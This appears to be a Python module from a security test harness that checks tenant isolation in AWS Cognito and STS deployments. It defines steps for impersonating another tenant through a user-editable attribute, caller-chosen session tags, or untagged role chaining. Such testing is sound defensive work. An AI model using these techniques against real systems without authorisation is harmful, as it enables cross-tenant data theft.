"""Becoming another tenant by its session tag: choosing it, or getting rid of one's own."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING, Any

from harness.attacks.obtained import ObtainedCall
from harness.attacks.technique import Callers, ControlKind, Feature, Severity, Technique
from harness.blueprints.contract import Effect
from harness.targets.api import ApiRequest

if TYPE_CHECKING:
    from collections.abc import Mapping

    from harness.attacks.aim import Aim
    from harness.attacks.technique import Step

_TAGS = "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_session-tags.html"
_ATTRIBUTES = "https://docs.aws.amazon.com/cognito/latest/developerguide/using-afac-with-cognito-identity-pools.html"
# An attribute that designs leave to their users.
OPEN_ATTRIBUTE = "name"


def by_open_attribute(aim: Aim, value: str) -> tuple[Step, ...]:
    """Return the steps that write an attribute of one's own, take a new token and use what it is worth on the aim."""
    written = {"AccessToken": aim.access_token.reveal(), "UserAttributes": [{"Name": OPEN_ATTRIBUTE, "Value": value}]}
    refresh = {"REFRESH_TOKEN": aim.refresh_token.reveal()}
    signing_in = {"AuthFlow": "REFRESH_TOKEN_AUTH", "ClientId": aim.users_client, "AuthParameters": refresh}

    def exchange(answer: Mapping[str, Any]) -> ApiRequest:
        logins = {aim.deployment.provider: answer["AuthenticationResult"]["IdToken"]}
        params = {"IdentityId": aim.caller.identity_id, "Logins": logins, **aim.role_choice}
        return ApiRequest("cognito-identity", "GetCredentialsForIdentity", params)

    return (
        ApiRequest("cognito-idp", "UpdateUserAttributes", written),
        lambda _: ApiRequest("cognito-idp", "InitiateAuth", signing_in),
        exchange,
        lambda answer: ObtainedCall.from_answer(answer, aim.asset.reading),
    )


def tag_value(aim: Aim) -> str:
    """Return the value of the victim's first tag, empty where it has none."""
    return next(iter(aim.victims_tags.values()), "")


def _assuming(role: str, tags: Mapping[str, str]) -> ApiRequest:
    chosen = [{"Key": key, "Value": value} for key, value in tags.items()]
    params = {"RoleArn": role, "RoleSessionName": "isolation-harness"}
    return ApiRequest("sts", "AssumeRole", {**params, "Tags": chosen} if chosen else params)


def _tagged(aim: Aim) -> tuple[Step, ...]:
    return (
        _assuming(aim.role_of_tenants, aim.victims_tags),
        lambda answer: ObtainedCall.from_answer(answer, aim.asset.reading),
    )


def _untagged(aim: Aim) -> tuple[Step, ...]:
    return (
        _assuming(aim.role_of_tenants, {}),
        lambda answer: ObtainedCall.from_answer(answer, aim.asset.reading),
    )


_TAG = partial(
    Technique,
    effect=Effect.SESSION,
    severity=Severity.BLOCKER,
    callers=Callers.MEMBERS,
    victims=Callers.OWNERS,
    cwe=("CWE-639",),
)
_ASSUME = partial(
    _TAG,
    plane="sts",
    operation="AssumeRole",
    documentation=_TAGS,
    requires=frozenset({Feature.PRINCIPAL_TAGS, Feature.PERSONA_ROLE}),
    actions=("sts:AssumeRole", "sts:TagSession", "dynamodb:GetItem", "s3:GetObject"),
    control=ControlKind.WITNESS,
)

TECHNIQUES = (
    _TAG(
        id="user-pool.session.tag-by-open-attribute",
        title="writing the victim's tenant into an attribute that is left to users, then exchanging a new token",
        plane="user-pool",
        operation="UpdateUserAttributes",
        documentation=_ATTRIBUTES,
        catalogue=("idp-principal-tag-from-mutable-claim",),
        cwe=("CWE-639", "CWE-915"),
        requires=frozenset({Feature.ENHANCED_FLOW, Feature.PRINCIPAL_TAGS}),
        actions=("dynamodb:GetItem", "s3:GetObject"),
        steps=lambda aim: by_open_attribute(aim, tag_value(aim)),
        control_steps=lambda aim: by_open_attribute(aim, "somebody")[:-1],
    ),
    _ASSUME(
        id="sts.session.tag-chosen",
        title="AssumeRole on the role of signed-in users with the victim's tags",
        catalogue=("sts-session-tag-caller-chosen",),
        steps=_tagged,
        operator_steps=lambda aim: (_assuming(aim.deployment.witness_role, {"someone": "somebody"}),),
    ),
    _ASSUME(
        id="sts.session.chained-without-tags",
        title="AssumeRole on the role of signed-in users, which leaves the tags behind, and reading without them",
        catalogue=("sts-transitive-tags-not-set", "idp-missing-claim-fail-open"),
        steps=_untagged,
        operator_steps=lambda aim: (_assuming(aim.deployment.witness_role, {}),),
    ),
)
